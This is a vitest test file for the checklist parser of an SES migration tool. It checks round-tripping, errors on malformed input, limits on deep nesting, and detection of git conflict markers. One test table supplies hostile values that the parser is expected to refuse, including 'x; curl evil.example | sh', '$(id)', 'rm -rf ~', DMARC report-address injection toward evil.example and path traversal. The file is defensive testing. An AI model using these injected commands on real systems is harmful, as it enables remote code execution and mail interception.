import { expect, test } from 'vitest';
import {
  type Checklist,
  emptyChecklist,
  withIntent,
  withReceipt,
} from '../../src/core/checklist.ts';
import { CHOICES } from '../../src/core/checklist-choices.ts';
import { parseChecklist } from '../../src/core/checklist-parse.ts';
import type { Input } from '../../src/steps/input.ts';
import { makeSmtpCredsInputs } from '../../src/steps/make-smtp-creds/inputs.ts';
import { setupEventsInputs } from '../../src/steps/setup-events/inputs.ts';
import { verifyDomainInputs } from '../../src/steps/verify-domain/inputs.ts';

const at = '2026-11-22T10:00:00.000Z';
const full: Checklist = {
  ...withReceipt(
    withIntent(emptyChecklist('9b2d'), 'make-smtp-creds', {
      at,
      what: 'create-key',
      facts: { n: 1 },
    }),
    'verify-domain',
    {
      at,
      what: 'noted',
      changes: [{ op: '+', what: 'identity acme.example', from: null, to: 'x' }],
      facts: { text: 'a', number: 1.5, yes: true, nothing: null },
    },
  ),
  domain: 'acme.example',
  choices: { dns: 'manual', smtpUser: 'mailer' },
};
const text = JSON.stringify(full, null, 2);

test('gives back what was written', () => {
  expect(parseChecklist(text)).toEqual(full);
  expect(parseChecklist(JSON.stringify(emptyChecklist('a')))).toEqual(emptyChecklist('a'));
});

test('a byte order mark and CRLF change nothing', () => {
  expect(parseChecklist(`\uFEFF${text.replaceAll('\n', '\r\n')}\r\n`)).toEqual(full);
});

test('fields that are not known stay', () => {
  const more = JSON.parse(text);
  more.notes = ['x'];
  more.choices.colour = 'red';
  more.steps['verify-domain'].receipts[0].by = { name: 'Ada' };
  more.steps['clean-up'] = { intent: null, receipts: [] };
  expect(parseChecklist(JSON.stringify(more))).toEqual(more);
});

function refusal(change: (root: Record<string, unknown>) => void): () => Checklist {
  const root = JSON.parse(text);
  change(root);
  return () => parseChecklist(JSON.stringify(root));
}

/** Sets `value` at a path such as `steps.verify-domain.receipts[0].at`; undefined removes. */
function set(path: string, value: unknown) {
  return (root: Record<string, unknown>) => {
    const keys = path.split(/[.[\]]+/).filter(Boolean);
    const last = keys.pop() ?? '';
    const into = (object: Record<string, unknown>, key: string) =>
      object[key] as Record<string, unknown>;
    keys.reduce(into, root)[last] = value;
  };
}

const RECEIPT = 'steps.verify-domain.receipts[0]';

test.each<[path: string, value: unknown]>([
  ['lineage', undefined],
  ['lineage', ''],
  ['domain', 1],
  ['domain', undefined],
  ['region', []],
  ['account', 123456789012],
  ['choices', []],
  ['choices', null],
  ['choices.smtpUser', 1],
  ['choices.unknown', {}],
  ['steps', undefined],
  ['steps.verify-domain', 'done'],
  ['steps.verify-domain.receipts', {}],
  ['steps.verify-domain.intent', undefined],
  ['steps.make-smtp-creds.intent', 'create-key'],
  ['steps.make-smtp-creds.intent.at', 'yesterday'],
  ['steps.make-smtp-creds.intent.facts.n', { a: 1 }],
  [RECEIPT, null],
  [`${RECEIPT}.at`, 5],
  [`${RECEIPT}.at`, '2026-99-99T00:00:00Z'],
  [`${RECEIPT}.what`, undefined],
  [`${RECEIPT}.facts`, undefined],
  [`${RECEIPT}.facts.text`, ['a']],
  [`${RECEIPT}.changes`, {}],
  [`${RECEIPT}.changes[0]`, 'x'],
  [`${RECEIPT}.changes[0].op`, '*'],
  [`${RECEIPT}.changes[0].what`, 1],
  [`${RECEIPT}.changes[0].from`, undefined],
  [`${RECEIPT}.changes[0].to`, 3],
  ['last', 7],
])('names %s when it is %j', (path, value) => {
  expect(refusal(set(path, value))).toThrow(
    expect.objectContaining({
      code: 'checklist/unreadable',
      exitCode: 1,
      message: expect.stringMatching(new RegExp(`^${path.replace(/[.[\]]/g, '\\$&')} is `)),
    }),
  );
});

test.each([
  ['', 'It is empty.'],
  ['\r\n', 'It is empty.'],
  [text.slice(0, -20), 'It is cut short or not JSON.'],
  ['<html>', 'It is cut short or not JSON.'],
  ['[]', 'It was not written by ses-migrate'],
  ['null', 'It was not written by ses-migrate'],
  ['{"name":"acme","version":2}', 'It was not written by ses-migrate'],
  ['{"$schema":"https://json.schemastore.org/package","version":1}', 'It was not written by'],
  ['{"$schema":"urn:ses-migrate:checklist:1","version":"1"}', 'version is neither 1 nor 2.'],
  ['{"$schema":"urn:ses-migrate:checklist:1","version":0}', 'version is neither 1 nor 2.'],
])('refuses %j', (content, message) => {
  expect(() => parseChecklist(content)).toThrow(
    expect.objectContaining({
      code: 'checklist/unreadable',
      exitCode: 1,
      message: expect.stringContaining(message),
    }),
  );
});

test('refuses a newer version whatever else it holds', () => {
  expect(() => parseChecklist('{"$schema":"urn:ses-migrate:checklist:3","version":3}')).toThrow(
    expect.objectContaining({
      code: 'checklist/newer-version',
      exitCode: 1,
      message: expect.stringContaining('version 3'),
    }),
  );
});

/** What somebody who can edit the file, in a pull request, would put where the flags refuse it. */
test.each<[path: string, value: string]>([
  ['domain', 'acme.example/../x'],
  ['domain', 'acme.example;rm -rf ~'],
  ['domain', '127.0.0.1'],
  ['region', 'us-east-1.evil.example/'],
  ['region', 'x'],
  ['account', '1234'],
  ['account', '123456789012:user/*'],
  ['domain', 'x'.repeat(5_000)],
  ['choices.dns', 'bind'],
  ['choices.dmarc', 'none; rua=mailto:x@evil.example'],
  ['choices.onMxFailure', 'REJECT'],
  ['choices.dkimKeyLength', '512'],
  ['choices.senderScope', '*'],
  ['choices.sendsBy', ''],
  ['choices.senders', '*'],
  ['choices.senders', '*@*'],
  ['choices.senders', '*@acme.example,*'],
  ['choices.senders', '*@acme.example *@*.example'],
  ['choices.senders', '*@acme.example;*@evil.example'],
  ['choices.senders', ' , '],
  ['choices.senders', ''],
  ['choices.senders', '*@acme.example\u0000*@evil.example'],
  ['choices.dmarcRua', 'postmaster@acme.example; p=none'],
  ['choices.dmarcRua', 'postmaster@acme.example,mailto:x@evil.example'],
  ['choices.smtpUser', 'x; curl evil.example | sh'],
  ['choices.smtpUser', '$(id)'],
  ['choices.smtpUser', ''],
  ['choices.mailFrom', 'mail.acme.example\nevil.example'],
  ['choices.mailFrom', 'mail'],
  ['choices.configurationSet', 'set/*'],
  ['choices.configurationSet', '../events'],
  ['choices.hostedZoneId', 'Z1/../../2013-04-01/hostedzone/Z2'],
  ['choices.hostedZoneId', ''],
])('%s %j is refused as the flag refuses it', (path, value) => {
  expect(refusal(set(path, value))).toThrow(
    expect.objectContaining({
      code: 'checklist/bad-value',
      exitCode: 2,
      message: expect.stringMatching(new RegExp(`^${path}: .{1,400}$`)),
      fix: expect.any(String),
    }),
  );
});

test('what the flags would normalise is read in that form', () => {
  const content = parseChecklist(
    JSON.stringify({
      ...emptyChecklist('lineage'),
      domain: 'ACME.example',
      account: '1234-5678-9012',
      choices: {
        hostedZoneId: '/hostedzone/Z1',
        senders: '*@ACME.example, a@news.acme.example',
        later: '$(kept)',
      },
    }),
  );
  expect(content).toMatchObject({
    domain: 'acme.example',
    account: '123456789012',
    choices: {
      hostedZoneId: 'Z1',
      senders: '*@acme.example a@news.acme.example',
      later: '$(kept)',
    },
  });
});

test.each(['[', '{"a":'])('200,000 levels of %s are refused, and walked by nobody', (open) => {
  const close = open === '[' ? ']' : '}';
  const deep = `${open.repeat(200_000)}1${close.repeat(200_000)}`;
  const content = JSON.stringify(emptyChecklist('lineage')).replace(
    '"last":null',
    `"last":{"x":${deep}}`,
  );
  expect(() => parseChecklist(content)).toThrow(
    expect.objectContaining({ code: 'checklist/bad-value', exitCode: 2 }),
  );
});

test('brackets within a text are no levels', () => {
  const text = JSON.stringify({ ...emptyChecklist('lineage'), note: '[{"\\'.repeat(1000) });
  expect(parseChecklist(text)).toMatchObject({ domain: null });
});

test('a flag that is kept as a choice is checked by the rule of the file', () => {
  const inputs: readonly Input[] = [
    ...verifyDomainInputs,
    ...setupEventsInputs.filter(({ key }) => key !== 'configurationSet'),
    ...makeSmtpCredsInputs,
  ];
  const kept = inputs.filter(({ choice, key }) => choice !== undefined && key !== 'mailFrom');
  expect(kept).toHaveLength(Object.keys(CHOICES).length - 1);
  for (const { choice, parse, values } of kept) {
    const rule = CHOICES[choice ?? 'dns'];
    expect({ parse, values }).toEqual({ parse: undefined, values: undefined, ...rule });
  }
});

test.each([
  ['git', '\n'],
  ['git on Windows', '\r\n'],
])(
  'conflict markers of %s are named, and merging is advised, not a copy of the backup',
  (_what, eol) => {
    const both = [
      '<<<<<<< HEAD',
      '  "domain": null,',
      '=======',
      '  "domain": "a.example",',
      '>>>>>>> theirs',
    ];
    const content = text
      .split('\n')
      .toSpliced(2, 0, ...both)
      .join(eol);
    expect(() => parseChecklist(content)).toThrow(
      expect.objectContaining({
        code: 'checklist/conflict',
        exitCode: 1,
        fixes: [expect.objectContaining({ command: 'ses-migrate checklist merge' })],
      }),
    );
  },
);

test('markers within a text are no conflict', () => {
  const root = JSON.parse(text);
  root.notes = '<<<<<<< a\n>>>>>>> b';
  expect(() => parseChecklist(JSON.stringify(root))).not.toThrow();
});
